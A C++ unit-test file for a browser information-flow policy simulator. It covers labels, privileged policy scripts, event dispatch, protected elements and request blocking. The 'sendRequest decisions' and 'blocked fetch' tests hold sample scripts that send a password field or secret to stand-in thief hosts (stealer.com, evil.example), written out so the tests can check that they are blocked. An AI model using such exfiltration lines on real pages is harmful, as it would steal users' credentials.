// Copyright 2026 The webpol-sim Authors
//
// Licensed under the Apache License v2.0.
// SPDX-License-Identifier: Apache-2.0

#include "webpol/browser.hpp"

#include <doctest.h>

using namespace webpol;

namespace {

SinkDomain const host = *SinkDomain::parse("host.example");
SinkDomain const third = *SinkDomain::parse("third.example");
Label const H = Label::domain(host);

// body > form#f > (input#pwd, div#out, div#spot)
struct TestPage {
    explicit TestPage(Mode mode = Mode::Upgrade, std::vector<CannedResponse> responses = {}, bool block_all = false)
        : page(host, PageOptions { mode, true, block_all, 5'000'000 }, std::move(responses))
    {
        auto& body = page.create_element("body", "body");
        auto& form = page.create_element("form", "f");
        adopt(body, form);
        adopt(form, page.create_element("input", "pwd"));
        adopt(form, page.create_element("div", "out"));
        adopt(form, page.create_element("div", "spot"));
        page.set_root(body);
    }

    static void adopt(Element& parent, Element& child)
    {
        child.parent = &parent;
        parent.children.push_back(&child);
    }

    void policy(std::string_view code) { page.run_script("p.policy", host, true, code); }
    void script(std::string_view code) { page.run_script("t.js", third, false, code); }

    void key(std::string target, std::string k)
    {
        page.replay(EventInput { "keypress", std::move(target), { { "key", std::move(k) } } });
    }
    void click(std::string target) { page.replay(EventInput { "click", std::move(target), {} }); }

    Element& el(std::string_view id) { return *page.find_any(id); }

    TaintedValue global(std::string_view name)
    {
        auto* slot = page.interpreter().globals().lookup(name);
        REQUIRE(slot);
        return *slot;
    }

    std::vector<ErrorKind> error_kinds() const
    {
        std::vector<ErrorKind> out;
        for (auto const& e : page.errors())
            out.push_back(e.kind);
        return out;
    }

    Page page;
};

}

TEST_CASE("getElementById")
{
    TestPage t;
    t.script("var a = document.getElementById(\"pwd\"); var b = document.getElementById(\"nosuch\");");
    auto a = t.global("a");
    REQUIRE(std::holds_alternative<HostObject*>(a.payload));
    CHECK(std::get<HostObject*>(a.payload) == &t.el("pwd"));
    CHECK(a.label == Label {});
    CHECK(t.global("b").is_null());

    t.page.interpreter().globals().declare("sec", make_value(true, H));
    t.script("var c = null; if (sec) { c = document.getElementById(\"pwd\"); }");
    CHECK(t.global("c").label == H);
    CHECK(t.page.errors().empty());
}

TEST_CASE("detached elements are not found by id")
{
    TestPage t;
    t.script("var f = document.getElementById(\"f\"); f.removeChild(document.getElementById(\"out\"));"
             "var gone = document.getElementById(\"out\");");
    CHECK(t.global("gone").is_null());
}

TEST_CASE("setLabel and setContext need privilege")
{
    TestPage t;
    t.policy("document.getElementById(\"pwd\").setLabel(\"HOST\");");
    CHECK(t.el("pwd").element_label == H);
    CHECK(t.page.errors().empty());

    t.script("document.getElementById(\"out\").setLabel(\"HOST\");");
    CHECK(t.error_kinds() == std::vector { ErrorKind::PrivilegeError });
    CHECK(t.el("out").element_label == Label {});

    t.policy("document.getElementById(\"out\").setLabel(\"bogus label\");");
    CHECK(t.error_kinds().back() == ErrorKind::MalformedLabel);
}

TEST_CASE("setLabel on an element does not relabel earlier copies")
{
    TestPage t;
    t.el("pwd").value = make_value(std::string("abc"));
    t.script("var early = document.getElementById(\"pwd\").value;");
    t.policy("document.getElementById(\"pwd\").setLabel(\"HOST\");");
    t.script("var late = document.getElementById(\"pwd\").value;");
    CHECK(t.global("early").label == Label {});
    CHECK(t.global("late").label == H);
}

TEST_CASE("typing into a labeled field")
{
    TestPage t;
    t.policy("document.getElementById(\"pwd\").setLabel(\"HOST\");");
    t.page.finish_loading();
    t.key("pwd", "a");
    CHECK(std::get<std::string>(t.el("pwd").value.payload) == "a");
    CHECK(t.el("pwd").value.label == H);

    t.key("out", "z");
    CHECK(t.el("out").value.label == Label {});
}

TEST_CASE("event labels set by policy flow into typed values")
{
    TestPage t;
    t.policy("document.getElementById(\"f\").addEventListener(\"keypress\", function (e) { e.setLabel(\"HOST\"); });");
    t.script("var seen = \"\"; document.getElementById(\"pwd\").addEventListener(\"keypress\", function (e) {"
             " seen = seen + e.key; });");
    t.page.finish_loading();
    t.key("pwd", "q");
    CHECK(t.el("pwd").value.label == H);
    CHECK(t.global("seen").label == H);
    CHECK(std::get<std::string>(t.global("seen").payload) == "q");
}

TEST_CASE("setContext is monotone and visible to later handlers")
{
    TestPage t;
    t.policy("var ctxPolicy = function (e) { e.setContext(\"HOST\"); e.setContext(\"public\"); };"
             "document.getElementById(\"f\").addEventListener(\"click\", ctxPolicy);");
    t.script("var hits = 0; document.getElementById(\"spot\").addEventListener(\"click\", function (e) {"
             " hits = hits + 1; });");
    t.page.finish_loading();
    t.click("spot");
    auto const& log = t.page.handler_log();
    REQUIRE(log.size() == 2);
    CHECK(log[0].privileged);
    CHECK(log[0].context_label == Label {});
    CHECK_FALSE(log[1].privileged);
    CHECK(log[1].context_label == H);
    CHECK(log[1].pc_at_entry == H);
    CHECK(t.global("hits").label == H);

    t.script("document.getElementById(\"spot\").addEventListener(\"click\", function (e) { e.setContext(\"HOST\"); });");
    t.click("spot");
    CHECK(t.error_kinds() == std::vector { ErrorKind::PrivilegeError });
}

TEST_CASE("dispatch order: privileged first, then path order, then registration order")
{
    TestPage t;
    t.script("var order = \"\";"
             "function mark(tag) { return function (e) { order = order + tag; }; }"
             "document.getElementById(\"body\").addEventListener(\"click\", mark(\"B\"));"
             "document.getElementById(\"spot\").addEventListener(\"click\", mark(\"S1\"));"
             "document.getElementById(\"f\").addEventListener(\"click\", mark(\"F\"));"
             "document.getElementById(\"spot\").addEventListener(\"click\", mark(\"S2\"));");
    t.policy("document.getElementById(\"body\").addEventListener(\"click\", function (e) { order = order + \"P\"; });");
    t.page.finish_loading();
    t.click("spot");
    CHECK(std::get<std::string>(t.global("order").payload) == "PS1S2FB");

    t.click("out");
    CHECK(std::get<std::string>(t.global("order").payload) == "PS1S2FBPFB");

    // No handlers on the path: nothing runs.
    auto before = t.page.handler_log().size();
    t.page.replay(EventInput { "dblclick", "spot", {} });
    CHECK(t.page.handler_log().size() == before);
}

TEST_CASE("a failing handler does not stop dispatch")
{
    TestPage t;
    t.script("var after = 0;"
             "document.getElementById(\"spot\").addEventListener(\"click\", function (e) { nope(); });"
             "document.getElementById(\"spot\").addEventListener(\"click\", function (e) { after = 1; });");
    t.page.finish_loading();
    t.click("spot");
    CHECK(t.error_kinds() == std::vector { ErrorKind::UndefinedVariable });
    CHECK(std::get<double>(t.global("after").payload) == 1);
    CHECK(t.page.handler_log()[0].outcome == "UndefinedVariable");
    CHECK(t.page.handler_log()[1].outcome == "ok");
}

TEST_CASE("protection")
{
    TestPage t;
    t.policy("document.getElementById(\"spot\").addEventListener(\"click\", function (e) { });");
    CHECK(t.el("spot").is_protected);
    CHECK_FALSE(t.el("out").is_protected);

    SUBCASE("attributes")
    {
        t.script("document.getElementById(\"spot\").setAttribute(\"style\", \"x\");");
        CHECK(t.error_kinds() == std::vector { ErrorKind::ProtectedElementError });
        CHECK_FALSE(t.el("spot").attributes.contains("style"));
        t.policy("document.getElementById(\"spot\").setAttribute(\"style\", \"y\");");
        CHECK(t.page.errors().size() == 1);
        CHECK(std::get<std::string>(t.el("spot").attributes.at("style").payload) == "y");
    }
    SUBCASE("detaching the element or an ancestor")
    {
        t.script("document.getElementById(\"f\").removeChild(document.getElementById(\"spot\"));");
        t.script("document.getElementById(\"body\").removeChild(document.getElementById(\"f\"));");
        CHECK(t.error_kinds() == std::vector { ErrorKind::ProtectedElementError, ErrorKind::ProtectedElementError });
        CHECK(t.el("spot").attached());
    }
    SUBCASE("moving")
    {
        t.script("document.getElementById(\"body\").appendChild(document.getElementById(\"spot\"));");
        CHECK(t.error_kinds() == std::vector { ErrorKind::ProtectedElementError });
        CHECK(t.el("spot").parent == &t.el("f"));
    }
    SUBCASE("content writes stay allowed")
    {
        t.script("document.getElementById(\"spot\").innerText = \"hi\"; document.getElementById(\"spot\").setValue(3);");
        CHECK(t.page.errors().empty());
        CHECK(std::get<std::string>(t.el("spot").value.payload) == "3");
    }
    SUBCASE("unprotected elements move freely")
    {
        t.script("document.getElementById(\"body\").appendChild(document.getElementById(\"out\"));");
        CHECK(t.page.errors().empty());
        CHECK(t.el("out").parent == &t.el("body"));
    }
}

TEST_CASE("privileged registration after load")
{
    TestPage t;
    t.policy("document.getElementById(\"spot\").addEventListener(\"click\", function (e) {"
             " document.getElementById(\"out\").addEventListener(\"click\", function (e) { }); });");
    t.page.finish_loading();
    t.click("spot");
    CHECK(t.error_kinds() == std::vector { ErrorKind::PolicyInstallError });
    CHECK_FALSE(t.el("out").is_protected);
    CHECK(t.el("out").handlers.empty());

    // Ordinary scripts may still register from handlers.
    TestPage u;
    u.script("document.getElementById(\"spot\").addEventListener(\"click\", function (e) {"
             " document.getElementById(\"out\").addEventListener(\"click\", function (e) { }); });");
    u.page.finish_loading();
    u.click("spot");
    CHECK(u.page.errors().empty());
    CHECK(u.el("out").handlers.size() == 1);
}

TEST_CASE("element floor applies to every read")
{
    TestPage t;
    t.el("pwd").attributes.emplace("opacity", make_value(std::string("0.3")));
    t.policy("document.getElementById(\"pwd\").setLabel(\"HOST\");");
    t.script("var p = document.getElementById(\"pwd\");"
             "var v = p.value; var a = p.getAttribute(\"opacity\"); var m = p.getAttribute(\"missing\");"
             "var i = p.innerText;");
    for (char const* name : { "v", "a", "m", "i" }) {
        CAPTURE(name);
        CHECK(leq(H, t.global(name).label));
    }
}

TEST_CASE("nsu mode checks element writes against the effective label")
{
    TestPage t(Mode::Nsu);
    t.policy("document.getElementById(\"out\").setLabel(\"HOST\");");
    t.page.interpreter().globals().declare("sec", make_value(true, H));
    t.script("if (sec) { document.getElementById(\"out\").innerText = \"x\"; }");
    CHECK(t.page.errors().empty());
    CHECK(t.el("out").value.label == H);

    t.script("if (sec) { document.getElementById(\"spot\").innerText = \"x\"; }");
    CHECK(t.error_kinds() == std::vector { ErrorKind::ImplicitFlowError });
}

TEST_CASE("sendRequest decisions")
{
    TestPage t;
    t.el("pwd").value = make_value(std::string("pw"));
    t.policy("document.getElementById(\"pwd\").setLabel(\"HOST\");");
    t.script("var p = document.getElementById(\"pwd\").value;"
             "sendRequest(\"http://stealer.com/pwd.jsp?pwd=\" + p + \"weak\");"
             "sendRequest(\"http://currconv.com/conv.jsp?toCur=EUR\");"
             "sendRequest(\"http://host.example/save?p=\" + p);"
             "sendRequest(\"http://api.host.example/save?p=\" + p);"
             "sendRequest(\"not a url\");"
             "sendRequest(42);");
    auto const& log = t.page.requests();
    REQUIRE(log.size() == 6);
    CHECK_FALSE(log[0].allowed);
    CHECK(log[0].effective_label == H);
    CHECK(log[0].reason != "malformed");
    CHECK(log[1].allowed);
    CHECK(log[2].allowed);
    CHECK(log[3].allowed);
    CHECK_FALSE(log[4].allowed);
    CHECK(log[4].reason == "malformed");
    CHECK_FALSE(log[4].sink.has_value());
    CHECK(log[5].reason == "malformed");
    for (std::size_t i = 0; i < log.size(); ++i) {
        CHECK(log[i].seq == i);
        if (log[i].sink)
            CHECK(log[i].allowed == flow_permitted(log[i].effective_label, *log[i].sink));
    }
}

TEST_CASE("requests under a local pc are always blocked")
{
    TestPage t;
    t.page.interpreter().globals().declare("sec", make_value(true, Label::local()));
    t.script("if (sec) { sendRequest(\"http://host.example/x\"); }");
    REQUIRE(t.page.requests().size() == 1);
    CHECK_FALSE(t.page.requests()[0].allowed);
    CHECK(t.page.requests()[0].pc_at_send == Label::local());
}

TEST_CASE("fetch delivers responses in request order")
{
    TestPage t(Mode::Upgrade,
        { { "http://rates.example/conv", "0.92", "public" }, { "http://rates.example/conv.jsp?x", "1.5", "HOST" },
            { "http://other.example/", "hello", "public" } });
    t.script("var got = \"\"; var lbl = null;"
             "fetch(\"http://rates.example/conv.jsp?toCur=EUR\", function (xh) { got = got + xh.responseText + \";\"; });"
             "fetch(\"http://rates.example/conv.jsp?x=1\", function (xh) { lbl = xh.responseText; got = got + lbl + \";\"; });"
             "fetch(\"http://other.example/a\", function (xh) { got = got + xh.status + xh.readyState + \";\"; });"
             "fetch(\"http://nothing.example/a\", function (xh) { got = got + xh.status + \"[\" + xh.responseText + \"];\"; });");
    t.page.finish_loading();
    t.page.drain_responses();
    CHECK(std::get<std::string>(t.global("got").payload) == "0.92;1.5;2004;404[];");
    CHECK(t.global("lbl").label == H);
    auto const& log = t.page.handler_log();
    REQUIRE(log.size() == 4);
    for (auto const& entry : log) {
        CHECK(entry.target == "#network");
        CHECK(entry.event_type == "response");
    }
}

TEST_CASE("a blocked fetch never calls back")
{
    TestPage t;
    t.page.interpreter().globals().declare("sec", make_value(std::string("s"), H));
    t.script("var called = false; fetch(\"http://evil.example/?s=\" + sec, function (xh) { called = true; });");
    t.page.finish_loading();
    t.page.drain_responses();
    REQUIRE(t.page.requests().size() == 1);
    CHECK_FALSE(t.page.requests()[0].allowed);
    CHECK_FALSE(std::get<bool>(t.global("called").payload));
    CHECK(t.page.handler_log().empty());
}

TEST_CASE("responses to a fetch sent under a secret pc carry that context")
{
    TestPage t(Mode::Upgrade, { { "http://host.example/", "ok", "public" } });
    t.page.interpreter().globals().declare("sec", make_value(true, H));
    t.script("var r = null; if (sec) { fetch(\"http://host.example/a\", function (xh) { r = xh.responseText; }); }");
    t.page.finish_loading();
    t.page.drain_responses();
    REQUIRE(t.page.handler_log().size() == 1);
    CHECK(t.page.handler_log()[0].context_label == H);
    CHECK(t.global("r").label == H);
}

TEST_CASE("forced blocking suppresses every request")
{
    TestPage t(Mode::Upgrade, {}, true);
    t.script("sendRequest(\"http://host.example/a\");");
    REQUIRE(t.page.requests().size() == 1);
    CHECK_FALSE(t.page.requests()[0].allowed);
    CHECK(t.page.requests()[0].reason == "forced");
}

TEST_CASE("url parsing")
{
    auto u = parse_url("http://Api.Example.com:8080/path?q=1#f");
    REQUIRE(u);
    CHECK(u->scheme == "http");
    CHECK(u->host.name() == "api.example.com");
    CHECK(u->rest == "/path?q=1#f");

    auto bare = parse_url("https://example.com");
    REQUIRE(bare);
    CHECK(bare->rest.empty());

    CHECK(parse_url("http://a.example?x")->host.name() == "a.example");
    for (std::string bad : { "", "example.com/x", "http://", "http:///x", "http://user@evil.example/",
             "http://a.example:port/", "http://a.example:99999/", "http://bad_host!/", "://a.example/" }) {
        CAPTURE(bad);
        CHECK_FALSE(parse_url(bad).has_value());
    }
}

TEST_CASE("longest prefix wins")
{
    NetGate gate({ { "http://a.example/", "short" }, { "http://a.example/long/", "long" } });
    REQUIRE(gate.match("http://a.example/long/x"));
    CHECK(gate.match("http://a.example/long/x")->body == "long");
    CHECK(gate.match("http://a.example/other")->body == "short");
    CHECK(gate.match("http://b.example/") == nullptr);
}

TEST_CASE("empty page")
{
    TestPage t;
    t.script("");
    t.page.finish_loading();
    t.page.drain_responses();
    CHECK(t.page.requests().empty());
    CHECK(t.page.handler_log().empty());
    CHECK(t.page.script_log().size() == 1);
    CHECK(t.page.script_log()[0].outcome == "ok");
}
